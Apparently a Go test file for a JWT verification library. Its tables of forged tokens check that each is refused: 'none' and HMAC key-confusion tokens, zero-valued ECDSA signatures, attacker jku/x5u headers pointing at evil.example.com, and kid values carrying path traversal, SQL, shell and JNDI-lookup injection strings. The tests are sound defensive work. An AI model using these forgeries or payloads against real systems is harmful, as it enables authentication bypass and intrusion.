package keys_test

import (
	"bytes"
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/x509"
	"encoding/base64"
	"fmt"
	"hash"
	"math/big"
	"net/url"
	"slices"
	"strings"
	"testing"

	"example.com/signet/keys"
	"example.com/signet/keys/keystest"
)

// The rules of form, word for word: they go into logs and metrics.
const (
	ruleTooLong     = "malformed token: longer than 8 KiB"
	ruleSegments    = "malformed token: not three segments"
	ruleLineBreak   = "malformed token: line break in it"
	ruleBase64      = "malformed token: not canonical unpadded base64url"
	ruleNoSignature = "malformed token: empty signature"
	ruleHeader      = "malformed token: header is not a strict JSON object"
	ruleCritical    = "malformed token: header has crit"
	ruleB64         = "malformed token: header has b64"
	ruleZip         = "malformed token: header has zip"
	ruleNoKeyID     = "malformed token: header has no kid"
	ruleLongKeyID   = "malformed token: kid longer than 256 octets"
	ruleLongHeader  = "malformed token: header longer than 1 KiB"
	ruleNotAllowed  = "algorithm not allowed: header names neither ES256 nor RS256"
	ruleMismatch    = "algorithm not allowed: header and key name different algorithms"
	ruleUnknownKey  = "unknown key: kid is not in the set"
	ruleSignature   = "signature does not verify: not made by the key that kid names"
)

// sentinelOf finds the sentinel that a rule's text begins with.
func sentinelOf(t *testing.T, rule string) error {
	t.Helper()
	for _, sentinel := range sentinels {
		if strings.HasPrefix(rule, sentinel.Error()+": ") {
			return sentinel
		}
	}
	t.Fatalf("no sentinel for %q", rule)
	return nil
}

// wantRule checks that the error is exactly the rule and shows nothing of the token.
func wantRule(t *testing.T, err error, rule, token string) {
	t.Helper()
	wantError(t, err, sentinelOf(t, rule), "")
	if err.Error() != rule {
		t.Errorf("got %q, want %q", err, rule)
	}
	if leak := sharedText(err.Error(), token); leak != "" {
		t.Errorf("error %q holds %q of the token", err, leak)
	}
}

// sharedText returns eight characters that text and the token, or what a segment of it encodes, have in common.
func sharedText(text, token string) string {
	const window = 8
	sources := []string{token}
	for segment := range strings.SplitSeq(token[:min(len(token), 1<<14)], ".") {
		decoded, _ := base64.RawURLEncoding.DecodeString(segment)
		sources = append(sources, string(decoded))
	}
	for i := 0; i+window <= len(text); i++ {
		for _, source := range sources {
			if strings.Contains(source, text[i:i+window]) {
				return text[i : i+window]
			}
		}
	}
	return ""
}

// tokenRow is a token and the rule that it breaks; no rule is an accepted token.
type tokenRow struct {
	name  string
	token string
	rule  string
}

// The set that all rows are held against. Its keys' strangers are keystest.ES256Other and keystest.RS256Other.
func testSet() *keys.Set { return keystest.Set(keystest.ES256, keystest.RS256) }

// checkRows runs rows in a fresh set, whose keys have not been used.
func checkRows(t *testing.T, rows []tokenRow) {
	t.Helper()
	t.Parallel()
	set := testSet()
	for _, row := range rows {
		t.Run(row.name, func(t *testing.T) {
			got, err := set.Verify(row.token)
			if row.rule != "" {
				wantRule(t, err, row.rule, row.token)
				if got.Payload != nil || got.Header != (keys.Header{}) {
					t.Errorf("a token beside the error: %v", got)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			signed := must(base64.RawURLEncoding.DecodeString(strings.Split(row.token, ".")[1]))
			if !bytes.Equal(got.Payload, signed) {
				t.Errorf("payload %q, but %q was signed", got.Payload, signed)
			}
			if set.Key(got.Header.KeyID) == nil || got.Header.Algorithm != set.Key(got.Header.KeyID).Algorithm() {
				t.Errorf("header %+v names no key of the set", got.Header)
			}
		})
	}
}

// genuine is a token that nothing is wrong with, spelled as Signet spells it.
func genuine(name string) string {
	return must(keystest.Key(name).Sign(keys.TypeAccessToken, []byte(testPayload)))
}

// segments are the three segments of a token.
func segments(token string) (header, payload, signature string) {
	parts := strings.Split(token, ".")
	return parts[0], parts[1], parts[2]
}

func TestVerifyAccepts(t *testing.T) {
	ec := header("ES256", keystest.ES256)
	forge := func(header string) string { return keystest.Forge(keystest.ES256, header, testPayload) }
	kid := `"kid":"` + keystest.Key(keystest.ES256).ID() + `"`
	checkRows(t, []tokenRow{
		{"ES256", genuine(keystest.ES256), ""},
		{"RS256", genuine(keystest.RS256), ""},
		{"client assertion", must(keystest.Key(keystest.ES256).Sign(keys.TypeClientAssertion, []byte(testPayload))), ""},
		{"JWT", must(keystest.Key(keystest.RS256).Sign(keys.TypeJWT, []byte(testPayload))), ""},
		{"members in another order", forge(`{"typ":"at+jwt",` + kid + `,"alg":"ES256"}`), ""},
		{"space in the header", forge("{ \"alg\" : \"ES256\",\n\t" + kid + " }"), ""},
		{"no typ", forge(`{"alg":"ES256",` + kid + `}`), ""},
		{"escapes in a value", forge(`{"alg":"\u0045S256",` + kid + `}`), ""},
		{"unknown members", forge(withMember(ec, `"x":[{"y":null}],"Crit":["b64"],"CRIT":[]`)), ""},
		{"empty payload, signed", keystest.Forge(keystest.ES256, ec, ""), ""},
		{"payload that is not JSON", keystest.Forge(keystest.ES256, ec, "\x00\xff."), ""},
		{"payload with dots inside", keystest.Forge(keystest.RS256, header("RS256", keystest.RS256), `a.b.c`), ""},
		{"largest", largest(keys.MaxTokenSize), ""},
	})
}

// largest is a genuine token of exactly so many octets.
func largest(size int) string {
	head := header("ES256", keystest.ES256)
	for pad := size / 2; ; pad++ {
		token := keystest.Forge(keystest.ES256, head, strings.Repeat("p", pad))
		if len(token) == size {
			return token
		}
		if len(token) > size {
			head = withMember(head, `"z":0`) // base64 cannot have every length, so move by a few octets and try again
			pad = size / 2
		}
	}
}

func hmacToken(alg string, hash func() hash.Hash, key []byte, kid string) string {
	input := keystest.Encode(`{"alg":"`+alg+`","kid":"`+kid+`","typ":"at+jwt"}`) + "." + keystest.Encode(testPayload)
	mac := hmac.New(hash, key)
	mac.Write([]byte(input))
	return input + "." + keystest.Encode(mac.Sum(nil))
}

func TestVerifyAlgorithm(t *testing.T) {
	ecID, rsaID := keystest.Key(keystest.ES256).ID(), keystest.Key(keystest.RS256).ID()
	var rows []tokenRow

	for _, alg := range []string{"none", "None", "NONE", "nOnE", ""} {
		head, payload := keystest.Encode(header(alg, keystest.ES256)), keystest.Encode(testPayload)
		_, _, kept := segments(genuine(keystest.ES256))
		rows = append(rows,
			tokenRow{alg + " with empty signature", head + "." + payload + ".", ruleNoSignature},
			tokenRow{alg + " with a kept signature", head + "." + payload + "." + kept, ruleNotAllowed},
			tokenRow{alg + " with its own signature", keystest.Forge(keystest.ES256, header(alg, keystest.ES256), testPayload),
				ruleNotAllowed})
	}

	hashes := map[string]func() hash.Hash{"HS256": sha256.New, "HS384": sha512.New384, "HS512": sha512.New}
	for _, name := range []string{keystest.ES256, keystest.RS256} {
		public := keystest.Key(name).Public()
		secrets := map[string][]byte{
			"PEM": must(public.MarshalPEM()), "DER": must(x509.MarshalPKIXPublicKey(keystest.Raw(name).Public())),
			"JWK": []byte(jwkWith(t, name, nil)), "JWK Set": must(keystest.Set(name).MarshalJSON()),
			"PEM without the line break": bytes.TrimSpace(must(public.MarshalPEM())), "nothing": nil, "kid": []byte(public.ID()),
		}
		if name == keystest.RS256 {
			secrets["modulus"] = rawRSA(name).N.Bytes()
		}
		for what, secret := range secrets {
			for alg, hash := range hashes {
				rows = append(rows, tokenRow{alg + " keyed with the " + what + " of " + name,
					hmacToken(alg, hash, secret, public.ID()), ruleNotAllowed})
			}
			rows = append(rows, tokenRow{"HMAC called by the key's own algorithm, keyed with the " + what + " of " + name,
				hmacToken(string(public.Algorithm()), sha256.New, secret, public.ID()), ruleSignature})
		}
	}

	raw := func(alg string) string { return `{"alg":` + alg + `,"kid":"` + ecID + `"}` }
	forge := func(header string) string { return keystest.Forge(keystest.ES256, header, testPayload) }
	for _, alg := range []string{"ES384", "ES512", "ES256K", "RS384", "RS512", "PS256", "EdDSA", "RSA1_5", "dir", "A128KW",
		"es256", "Es256", "ES256 ", " ES256", "ES256\\u0000", "ES256,RS256", "SHA256withECDSA", "ＥＳ256"} {
		rows = append(rows, tokenRow{"alg " + alg, forge(raw(`"` + alg + `"`)), ruleNotAllowed})
	}
	pss := must(keystest.Raw(keystest.RS256).Sign(rand.Reader, digestOf(keystest.Encode(header("RS256", keystest.RS256))+
		"."+keystest.Encode(testPayload)), &rsa.PSSOptions{SaltLength: 32, Hash: crypto.SHA256}))

	checkRows(t, append(rows,
		tokenRow{"alg missing", forge(`{"kid":"` + ecID + `"}`), ruleNotAllowed},
		tokenRow{"alg null", forge(raw(`null`)), ruleNotAllowed},
		tokenRow{"alg a number", forge(raw(`256`)), ruleHeader},
		tokenRow{"alg an array", forge(raw(`["ES256"]`)), ruleHeader},
		tokenRow{"alg an object", forge(raw(`{"alg":"ES256"}`)), ruleHeader},
		tokenRow{"alg true", forge(raw(`true`)), ruleHeader},
		tokenRow{"ES256 with a P-384 key under our kid",
			keystest.Forge(keystest.WrongCurve, header("ES256", keystest.ES256), testPayload), ruleSignature},
		tokenRow{"ES256 said, RSA key named, RSA signed",
			keystest.Forge(keystest.RS256, `{"alg":"ES256","kid":"`+rsaID+`"}`, testPayload), ruleMismatch},
		tokenRow{"RS256 said, EC key named, EC signed",
			keystest.Forge(keystest.ES256, `{"alg":"RS256","kid":"`+ecID+`"}`, testPayload), ruleMismatch},
		tokenRow{"ES256 said, RSA key named, EC signed",
			keystest.Forge(keystest.ES256, `{"alg":"ES256","kid":"`+rsaID+`"}`, testPayload), ruleMismatch},
		tokenRow{"RS256 said and named, EC signed", // the alg of another published key
			keystest.Forge(keystest.ES256, header("RS256", keystest.RS256), testPayload), ruleSignature},
		tokenRow{"PS256 signature called RS256", keystest.Encode(header("RS256", keystest.RS256)) + "." +
			keystest.Encode(testPayload) + "." + keystest.Encode(pss), ruleSignature},
	))
}

func digestOf(input string) []byte {
	digest := sha256.Sum256([]byte(input))
	return digest[:]
}

// flipBit returns text with one bit of its i-th octet changed.
func flipBit(octets []byte, i int) []byte {
	flipped := bytes.Clone(octets)
	flipped[i] ^= 0x10
	return flipped
}

func TestVerifySignature(t *testing.T) {
	ec, rs := genuine(keystest.ES256), genuine(keystest.RS256)
	head, payload, sig := segments(ec)
	input, rsInput := head+"."+payload, rs[:strings.LastIndexByte(rs, '.')]
	ecSig, rsSig := must(base64.RawURLEncoding.DecodeString(sig)), keystest.SignRaw(keystest.RS256, rsInput)
	r, s := new(big.Int).SetBytes(ecSig[:32]), new(big.Int).SetBytes(ecSig[32:])
	n := elliptic.P256().Params().N
	zero, one := new(big.Int), big.NewInt(1)
	pair := func(r, s *big.Int) []byte { return slices.Concat(fixed(r, 32), fixed(s, 32)) }
	withEC := func(signature []byte) string { return input + "." + keystest.Encode(signature) }
	withRS := func(signature []byte) string { return rsInput + "." + keystest.Encode(signature) }
	sub := func(a, b *big.Int) *big.Int { return new(big.Int).Sub(a, b) }
	der := must(keystest.Raw(keystest.ES256).Sign(rand.Reader, digestOf(input), crypto.SHA256))
	max256 := sub(new(big.Int).Lsh(one, 256), one)
	rsaN := rawRSA(keystest.RS256).N
	other := keystest.Forge(keystest.ES256, header("ES256", keystest.ES256), `{"sub":"other"}`)
	_, _, otherSig := segments(other)

	rows := []tokenRow{
		{"empty", input + ".", ruleNoSignature},
		{"detached payload", head + ".." + sig, ruleSignature},
		{"of another token", input + "." + otherSig, ruleSignature},
		{"of the payload alone", withEC(keystest.SignRaw(keystest.ES256, payload)), ruleSignature},
		{"of the decoded text", withEC(keystest.SignRaw(keystest.ES256, header("ES256", keystest.ES256)+"."+testPayload)),
			ruleSignature},
		{"by another key", keystest.Forge(keystest.ES256Other, header("ES256", keystest.ES256), testPayload), ruleSignature},
		{"by another RSA key", keystest.Forge(keystest.RS256Other, header("RS256", keystest.RS256), testPayload), ruleSignature},
		{"by an RSA key of 1024 bits", keystest.Forge(keystest.WeakRSA, header("RS256", keystest.RS256), testPayload),
			ruleSignature},

		{"ECDSA in DER", withEC(der), ruleSignature},
		{"r = s = 0", withEC(pair(zero, zero)), ruleSignature}, // CVE-2022-21449
		{"r = 0", withEC(pair(zero, s)), ruleSignature},
		{"s = 0", withEC(pair(r, zero)), ruleSignature},
		{"r = s = 1", withEC(pair(one, one)), ruleSignature},
		{"r = n", withEC(pair(n, s)), ruleSignature},
		{"s = n", withEC(pair(r, n)), ruleSignature},
		{"r = s = n", withEC(pair(n, n)), ruleSignature},
		{"r and s beyond n", withEC(pair(max256, max256)), ruleSignature},
		{"r and s exchanged", withEC(pair(s, r)), ruleSignature},
		{"63 octets", withEC(ecSig[:63]), ruleSignature},
		{"63 octets, the first gone", withEC(ecSig[1:]), ruleSignature},
		{"65 octets", withEC(append(bytes.Clone(ecSig), 0)), ruleSignature},
		{"65 octets, zero first", withEC(append([]byte{0}, ecSig...)), ruleSignature},
		{"66 octets, each number with a zero", withEC(slices.Concat(fixed(r, 33), fixed(s, 33))), ruleSignature},
		{"twice", withEC(append(bytes.Clone(ecSig), ecSig...)), ruleSignature},
		{"one octet", withEC([]byte{0}), ruleSignature},
		// (r, n-s) is as valid as (r, s) by FIPS 186-5. It is the same statement of the same key, so it is accepted; a
		// cache or a list of seen tokens must not take it for the identity of a token.
		{"s turned into n-s", withEC(pair(r, sub(n, s))), ""},
		// An s that was reduced: s+n fits into 256 bits only for a small s, which no honest signature has.
		{"r+n cannot stand for r", withEC(pair(new(big.Int).And(new(big.Int).Add(r, n), max256), s)), ruleSignature},

		{"RSA, one octet short", withRS(rsSig[:255]), ruleSignature},
		{"RSA, first octet gone", withRS(rsSig[1:]), ruleSignature},
		{"RSA, one octet more", withRS(append(bytes.Clone(rsSig), 0)), ruleSignature},
		{"RSA, zero first", withRS(append([]byte{0}, rsSig...)), ruleSignature},
		{"RSA, 512 octets", withRS(append(make([]byte, 256), rsSig...)), ruleSignature},
		{"RSA, signature + modulus", withRS(new(big.Int).Add(new(big.Int).SetBytes(rsSig), rsaN).Bytes()), ruleSignature},
		{"RSA, 0", withRS(make([]byte, 256)), ruleSignature},
		{"RSA, 1", withRS(fixed(one, 256)), ruleSignature},
		{"RSA, modulus - 1", withRS(sub(rsaN, one).Bytes()), ruleSignature},
		{"EC signature for an RSA key", withRS(ecSig), ruleSignature},
		{"RSA signature for an EC key", withEC(rsSig), ruleSignature},
		{"RSA of SHA-1", withRS(must(rsa.SignPKCS1v15(nil, rawRSA(keystest.RS256), crypto.SHA1, digestOf(rsInput)[:20]))),
			ruleSignature},
	}
	checkRows(t, rows)
}

// One bit in each third of each segment. In the header it may break the JSON first; whatever it breaks, it is refused.
func TestVerifyFlippedBits(t *testing.T) {
	t.Parallel()
	for _, name := range []string{keystest.ES256, keystest.RS256} {
		set, token := keystest.Set(name), genuine(name)
		parts := strings.Split(token, ".")
		for segment := range parts {
			octets := must(base64.RawURLEncoding.DecodeString(parts[segment]))
			for third := range 3 {
				changed := slices.Clone(parts)
				changed[segment] = keystest.Encode(flipBit(octets, len(octets)*(2*third+1)/6))
				got, err := set.Verify(strings.Join(changed, "."))
				if err == nil || got.Payload != nil {
					t.Errorf("%s: accepted with a bit changed in third %d of segment %d", name, third, segment)
					continue
				}
				if segment > 0 {
					wantRule(t, err, ruleSignature, token)
				}
			}
		}
	}
}

func TestVerifyForm(t *testing.T) {
	token := genuine(keystest.ES256)
	head, payload, sig := segments(token)
	flat := fmt.Sprintf(`{"payload":%q,"protected":%q,"signature":%q}`, payload, head, sig)
	general := fmt.Sprintf(`{"payload":%q,"signatures":[{"protected":%q,"signature":%q}]}`, payload, head, sig)
	unsigned := fmt.Sprintf(`{"payload":%q,"protected":%q,"header":{"alg":"none"},"signature":%q}`, payload, head, sig)
	jwe := keystest.Encode(`{"alg":"dir","enc":"A128GCM"}`)
	nested := keystest.Forge(keystest.ES256, withMember(header("ES256", keystest.ES256), `"cty":"JWT"`), token)
	checkRows(t, []tokenRow{
		{"nothing", "", ruleSegments},
		{"one segment", head, ruleSegments},
		{"two segments", head + "." + payload, ruleSegments},
		{"four segments", token + "." + sig, ruleSegments},
		{"four, the last empty", token + ".", ruleSegments},
		{"four, the first empty", "." + token, ruleSegments},
		{"five segments", token + ".." + sig, ruleSegments},
		{"two tokens", token + "." + token, ruleSegments},
		{"one dot", ".", ruleSegments},
		{"two dots", "..", ruleNoSignature},
		{"three dots", "...", ruleSegments},
		{"four dots", "....", ruleSegments},
		{"no header", "." + payload + "." + sig, ruleHeader},
		{"signature alone", ".." + sig, ruleHeader},
		{"no payload", head + ".." + sig, ruleSignature},
		{"no payload, unknown header", keystest.Encode(`{"alg":"ES256","kid":"x"}`) + ".." + sig, ruleUnknownKey},
		{"flattened JSON", flat, ruleSegments},
		{"flattened JSON with an unsigned header", unsigned, ruleSegments},
		{"general JSON", general, ruleSegments},
		{"general JSON with dots", `{"a":"..",` + general[1:], ruleBase64},
		{"JSON in base64", keystest.Encode(flat), ruleSegments},
		{"JWE", jwe + "..AAAA.AAAA.AAAA", ruleSegments},
		{"JWE header in three segments", jwe + "." + payload + "." + sig, ruleNotAllowed},
		// The inner token is a payload like another: it is returned and never opened.
		{"nested", nested, ""},
		{"Bearer before it", "Bearer " + token, ruleBase64},
	})
}

func TestVerifySpelling(t *testing.T) {
	// A stray bit needs a segment whose length leaves some; the payload is chosen so that all three do.
	token := keystest.Forge(keystest.ES256, withMember(header("ES256", keystest.ES256), `"z":1`), testPayload)
	for _, pad := range []string{"", "1", "11"} {
		token = keystest.Forge(keystest.ES256, withMember(header("ES256", keystest.ES256), `"z":1`+pad), testPayload)
		if h, p, _ := segments(token); len(h)%4 >= 2 && len(p)%4 >= 2 {
			break
		}
	}
	parts := strings.Split(token, ".")
	names := []string{"header", "payload", "signature"}
	change := func(i int, f func(string) string) string {
		changed := slices.Clone(parts)
		changed[i] = f(changed[i])
		return strings.Join(changed, ".")
	}
	std := func(segment string) string { return strings.NewReplacer("-", "+", "_", "/").Replace(segment) }

	rows := []tokenRow{
		{"unchanged", token, ""},
		{"every segment padded", strings.Join([]string{parts[0] + "=", parts[1] + "=", parts[2] + "=="}, "."), ruleBase64},
		{"percent-encoded dots", strings.ReplaceAll(token, ".", "%2E"), ruleSegments},
		{"percent-encoded letter", "%65" + token[1:], ruleBase64},
		{"escaped for a query", url.QueryEscape(token + "="), ruleBase64},
		{"byte order mark before", "\ufeff" + token, ruleBase64},
		{"byte order mark behind", token + "\ufeff", ruleBase64},
		{"full-width dots", strings.ReplaceAll(token, ".", "．"), ruleSegments},
		{"quoted", `"` + token + `"`, ruleBase64},
		{"invalid UTF-8", "\xff" + token, ruleBase64},
		{"minus of another kind", change(1, func(s string) string { return s + "−" }), ruleBase64},
		{"comma behind", token + ",", ruleBase64},
	}
	for i, name := range names {
		rows = append(rows,
			tokenRow{name + " with stray last bits", change(i, strayBits), ruleBase64},
			tokenRow{name + " padded with one", change(i, func(s string) string { return s + "=" }), ruleBase64},
			tokenRow{name + " padded with two", change(i, func(s string) string { return s + "==" }), ruleBase64},
			tokenRow{name + " with + inside", change(i, func(s string) string { return "+" + s[1:] }), ruleBase64},
			tokenRow{name + " with / inside", change(i, func(s string) string { return "/" + s[1:] }), ruleBase64},
			tokenRow{name + " of impossible length", change(i, func(s string) string { return s[:len(s)-(len(s)+3)%4] }), ruleBase64},
		)
		for what, char := range map[string]string{"CR": "\r", "LF": "\n", "CRLF": "\r\n", "tab": "\t", "space": " ", "NUL": "\x00",
			"no-break space": "\u00a0", "zero-width space": "\u200b"} {
			rule := ruleBase64
			if strings.ContainsAny(char, "\r\n") {
				rule = ruleLineBreak
			}
			rows = append(rows,
				tokenRow{what + " before the " + name, change(i, func(s string) string { return char + s }), rule},
				tokenRow{what + " inside the " + name, change(i, func(s string) string { return s[:4] + char + s[4:] }), rule},
				tokenRow{what + " behind the " + name, change(i, func(s string) string { return s + char }), rule})
		}
	}
	// The same octets in the standard alphabet: a signature that has both - and _ so that the spelling differs.
	for {
		candidate := keystest.Forge(keystest.ES256, header("ES256", keystest.ES256), testPayload)
		if head, payload, sig := segments(candidate); strings.Contains(sig, "-") && strings.Contains(sig, "_") {
			rows = append(rows, tokenRow{"signature in the standard alphabet", head + "." + payload + "." + std(sig), ruleBase64})
			break
		}
	}
	checkRows(t, rows)
}

// A header that Signet wrote is recognised as text, without decoding it: that must not let another spelling through.
func TestVerifySpellingOfKnownHeader(t *testing.T) {
	var rows []tokenRow
	for _, name := range []string{keystest.ES256, keystest.RS256} {
		head, payload, sig := segments(genuine(name))
		rest := "." + payload + "." + sig
		for what, spelling := range map[string]string{
			"padded with one": head + "=", "padded with two": head + "==", "stray last bits": strayBits(head), "space before": " " + head,
			"space behind": head + " ", "space inside": head[:9] + " " + head[9:], "tab behind": head + "\t", "NUL behind": head + "\x00",
			"byte order mark": "\ufeff" + head, "percent-encoded": "%65" + head[1:], "full-width letter": "ｅ" + head[1:],
		} {
			rows = append(rows, tokenRow{name + ", " + what, spelling + rest, ruleBase64})
		}
		for what, spelling := range map[string]string{"LF before": "\n" + head, "LF behind": head + "\n", "CR behind": head + "\r",
			"CRLF inside": head[:9] + "\r\n" + head[9:]} {
			rows = append(rows, tokenRow{name + ", " + what, spelling + rest, ruleLineBreak})
		}
		rows = append(rows, tokenRow{name + ", cut short", head[:len(head)-4] + rest, ruleBase64},
			tokenRow{name + ", space around the object", keystest.Encode(header(string(keystest.Key(name).Algorithm()), name)+" ") + rest,
				ruleHeader})
	}
	checkRows(t, rows)
}

// Which rule another case breaks first depends on the signature's last letter, so only the kind of error is fixed.
func TestVerifyOtherCase(t *testing.T) {
	t.Parallel()
	for _, name := range []string{keystest.ES256, keystest.RS256} {
		for _, change := range []func(string) string{strings.ToUpper, strings.ToLower} {
			_, err := testSet().Verify(change(genuine(name)))
			wantError(t, err, keys.ErrMalformed, "")
		}
	}
}

func TestVerifyHeader(t *testing.T) {
	ec := header("ES256", keystest.ES256)
	kid := `"kid":"` + keystest.Key(keystest.ES256).ID() + `"`
	forge := func(header string) string { return keystest.Forge(keystest.ES256, header, testPayload) }
	with := func(member string) string { return forge(withMember(ec, member)) }
	// The attacker signs with his own key, offers it in the header, and names ours or none.
	offer := func(member string) string {
		return keystest.Forge(keystest.ES256Other, withMember(ec, member), testPayload)
	}
	theirs := jwkWith(t, keystest.ES256Other, nil)
	stranger := keystest.Key(keystest.ES256Other)

	rows := []tokenRow{
		{"duplicate alg", with(`"alg":"ES256"`), ruleHeader},
		{"duplicate alg, none first", forge(`{"alg":"none",` + ec[1:]), ruleHeader},
		{"duplicate alg, none last", with(`"alg":"none"`), ruleHeader},
		{"duplicate kid", with(kid), ruleHeader},
		{"duplicate unknown member", with(`"x":1,"x":1`), ruleHeader},
		{"duplicate in a nested object", with(`"x":{"y":1,"y":1}`), ruleHeader},
		{"duplicate by an escape", with(`"\u0061lg":"none"`), ruleHeader},
		{"escaped alg alone", forge(`{"\u0061lg":"ES256",` + kid + `}`), ruleHeader},
		{"escaped kid alone", forge(strings.Replace(ec, `"kid"`, `"\u006bid"`, 1)), ruleHeader},
		{"escaped crit", with(`"\u0063rit":["exp"]`), ruleHeader},
		{"escaped unknown name", with(`"\u0078":1`), ruleHeader},
		{"ALG alone", forge(`{"ALG":"ES256",` + kid + `}`), ruleNotAllowed},
		{"Alg alone", forge(`{"Alg":"ES256",` + kid + `}`), ruleNotAllowed},
		{"KID alone", forge(`{"alg":"ES256","KID":"x"}`), ruleNoKeyID},
		{"ALG beside alg counts for nothing", with(`"ALG":"none"`), ""},
		{"ALG cannot mend alg", forge(`{"alg":"none","ALG":"ES256",` + kid + `}`), ruleNotAllowed},
		{"trailing octet", forge(ec + "x"), ruleHeader},
		{"trailing NUL", forge(ec + "\x00"), ruleHeader},
		{"trailing brace", forge(ec + "}"), ruleHeader},
		{"second object", forge(ec + ec), ruleHeader},
		{"space before", forge(" " + ec), ruleHeader},
		{"space after", forge(ec + " "), ruleHeader},
		{"line break after", forge(ec + "\n"), ruleHeader},
		{"byte order mark", forge("\ufeff" + ec), ruleHeader},
		{"empty", forge(""), ruleHeader},
		{"empty object", forge("{}"), ruleNotAllowed},
		{"array", forge("[" + ec + "]"), ruleHeader},
		{"string", forge(`"` + "x" + `"`), ruleHeader},
		{"null", forge("null"), ruleHeader},
		{"number", forge("1"), ruleHeader},
		{"unclosed", forge(strings.TrimSuffix(ec, "}")), ruleHeader},
		{"comma at the end", forge(strings.TrimSuffix(ec, "}") + ",}"), ruleHeader},
		{"comment", forge(strings.TrimSuffix(ec, "}") + "/**/}"), ruleHeader},
		{"UTF-16", forge("{\x00\"\x00}\x00"), ruleHeader},
		{"deep, unclosed", with(`"x":` + strings.Repeat("[", 800)), ruleHeader},
		{"deep, unclosed and long", with(`"x":` + strings.Repeat("[", 5000)), ruleLongHeader},
		{"depth 10,000", with(`"x":` + strings.Repeat("[", 10_000) + strings.Repeat("]", 10_000)), ruleTooLong},
		{"invalid UTF-8", with("\"x\":\"\xff\""), ruleHeader},
		{"invalid UTF-8 in a name", with("\"\xff\":1"), ruleHeader},
		{"overlong UTF-8", with("\"x\":\"\xc0\xaf\""), ruleHeader},
		{"lone surrogate", with(`"x":"\ud800"`), ruleHeader},
		{"lone low surrogate", with(`"x":"\udfff"`), ruleHeader},
		{"lone surrogate in kid", forge(`{"alg":"ES256","kid":"\ud83d"}`), ruleHeader},
		{"typ a number", forge(strings.Replace(ec, `"at+jwt"`, "1", 1)), ruleHeader},
		{"typ an array", forge(strings.Replace(ec, `"at+jwt"`, `["at+jwt"]`, 1)), ruleHeader},

		{"crit unknown", with(`"crit":["x"],"x":1`), ruleCritical},
		{"crit empty", with(`"crit":[]`), ruleCritical},
		{"crit of a known name", with(`"crit":["alg"]`), ruleCritical},
		{"crit exp", with(`"crit":["exp"],"exp":1`), ruleCritical},
		{"crit b64", with(`"crit":["b64"],"b64":true`), ruleCritical},
		{"crit null", with(`"crit":null`), ruleCritical},
		{"crit a string", with(`"crit":"x"`), ruleCritical},
		{"crit false", with(`"crit":false`), ruleCritical},
		{"crit before alg", forge(`{"crit":null,` + ec[1:]), ruleCritical},
		{"b64 false", with(`"b64":false`), ruleB64},
		{"b64 true", with(`"b64":true`), ruleB64},
		{`b64 "false"`, with(`"b64":"false"`), ruleB64},
		{"b64 null", with(`"b64":null`), ruleB64},
		{"zip", with(`"zip":"DEF"`), ruleZip},
		{"zip null", with(`"zip":null`), ruleZip},

		{"attacker's jku", offer(`"jku":"https://evil.example.com/jwks.json"`), ruleSignature},
		{"attacker's x5u", offer(`"x5u":"https://evil.example.com/cert.pem"`), ruleSignature},
		{"attacker's jwk", offer(`"jwk":` + theirs), ruleSignature},
		{"attacker's x5c", offer(`"x5c":["` + base64.StdEncoding.EncodeToString(certificate()) + `"]`), ruleSignature},
		{"attacker's jwk under the attacker's kid", keystest.Forge(keystest.ES256Other,
			withMember(header("ES256", keystest.ES256Other), `"jwk":`+theirs), testPayload), ruleUnknownKey},
		{"attacker's jwk and no kid", keystest.Forge(keystest.ES256Other,
			`{"alg":"ES256","jwk":`+theirs+`}`, testPayload), ruleNoKeyID},
		{"attacker's own token", must(stranger.Sign(keys.TypeAccessToken, []byte(testPayload))), ruleUnknownKey},
		// With our signature they are only unknown members: never read, never followed.
		{"our key with a jku", with(`"jku":"https://evil.example.com/jwks.json"`), ""},
		{"our key with the attacker's jwk", with(`"jwk":` + theirs), ""},
	}
	checkRows(t, rows)
}

func TestVerifyKeyID(t *testing.T) {
	forge := func(kid string) string {
		return keystest.Forge(keystest.ES256, `{"alg":"ES256","kid":`+kid+`,"typ":"at+jwt"}`, testPayload)
	}
	id := keystest.Key(keystest.ES256).ID()
	rows := []tokenRow{
		{"missing", keystest.Forge(keystest.ES256, `{"alg":"ES256"}`, testPayload), ruleNoKeyID},
		{"empty", forge(`""`), ruleNoKeyID},
		{"null", forge(`null`), ruleNoKeyID},
		{"number", forge(`1`), ruleHeader},
		{"array", forge(`["` + id + `"]`), ruleHeader},
		{"object", forge(`{"kid":"` + id + `"}`), ruleHeader},
		{"256 octets", forge(`"` + strings.Repeat("k", 256) + `"`), ruleUnknownKey},
		{"257 octets", forge(`"` + strings.Repeat("k", 257) + `"`), ruleLongKeyID},
		{"900 octets", forge(`"` + strings.Repeat("k", 900) + `"`), ruleLongKeyID},
		{"5 KB", forge(`"` + strings.Repeat("k", 5_000) + `"`), ruleLongHeader},
		{"10 KB", forge(`"` + strings.Repeat("k", 10_000) + `"`), ruleTooLong},
		{"spelled with escapes", forge(`"\u00` + fmt.Sprintf("%02x", id[0]) + id[1:] + `"`), ""},
	}
	for name, kid := range map[string]string{
		"unknown": "unknown", "path": "../../dev/null", "path of ours": "/etc/passwd", "SQL": "' OR 1=1; DROP TABLE keys; --",
		"NUL": `\u0000`, "ours and a NUL": id + `\u0000`, "line break": `a\nlevel=INFO msg=forged`, "shell": "$(id)`id`|id",
		"ours in lower case": strings.ToLower(id), "ours with a space": id + " ", "ours with padding": id + "=",
		"ours cut short": id[:42], "template": "${jndi:ldap://evil.example.com/a}", "URL": "https://evil.example.com/jwks.json",
		"of another key that is not published": keystest.Key(keystest.ES256Other).ID(), "direction mark": `\u202e` + id,
	} {
		rows = append(rows, tokenRow{name, forge(`"` + kid + `"`), ruleUnknownKey})
	}
	checkRows(t, rows)
}

func TestVerifySize(t *testing.T) {
	token := genuine(keystest.ES256)
	checkRows(t, []tokenRow{
		{"8 KiB", largest(keys.MaxTokenSize), ""},
		{"8 KiB and 1, genuine", largest(keys.MaxTokenSize + 1), ruleTooLong},
		{"1 MB", token + strings.Repeat("A", 1<<20), ruleTooLong},
		{"a million dots", strings.Repeat(".", 1_000_000), ruleTooLong},
		{"8 KiB of dots", strings.Repeat(".", keys.MaxTokenSize), ruleSegments},
		{"8 KiB of letters", strings.Repeat("A", keys.MaxTokenSize), ruleSegments},
		{"1 KiB of line breaks", strings.Repeat("\n", 1<<10) + "..A", ruleLineBreak},
